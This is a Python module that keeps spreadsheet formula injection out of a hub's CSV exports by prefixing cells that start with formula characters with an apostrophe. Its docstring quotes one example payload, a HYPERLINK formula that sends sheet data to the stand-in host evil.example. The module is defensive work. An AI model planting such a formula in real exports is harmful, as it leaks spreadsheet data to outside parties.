"""CSV files the hub writes are opened in spreadsheets: a cell must never become a formula.

Spreadsheet programs run a cell that starts with `=`, `+`, `-` or `@` as a formula (tab and
carriage return first count too: some strip them before looking), so a chat title such as
`=HYPERLINK("https://evil.example/?"&A1, "open")` would send the sheet's data elsewhere when
staff open a usage export. Every CSV the hub writes goes through `csv_writer`, which writes
such a cell as text: a leading apostrophe, the rest unchanged (OWASP's advice). Numbers the
hub writes itself (counts, "1.50 USD") never start with those characters.
"""

import csv

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_text(value) -> str:
    """`value` as a cell a spreadsheet reads as text, never as a formula."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


class SafeCsvWriter:
    """`csv.writer`, with every cell made `spreadsheet_text` first."""

    def __init__(self, file, **options):
        self._writer = csv.writer(file, **options)

    def writerow(self, row) -> None:
        self._writer.writerow([spreadsheet_text(cell) for cell in row])

    def writerows(self, rows) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(file, **options) -> SafeCsvWriter:
    """The writer every CSV of the hub uses (options as for `csv.writer`)."""
    return SafeCsvWriter(file, **options)
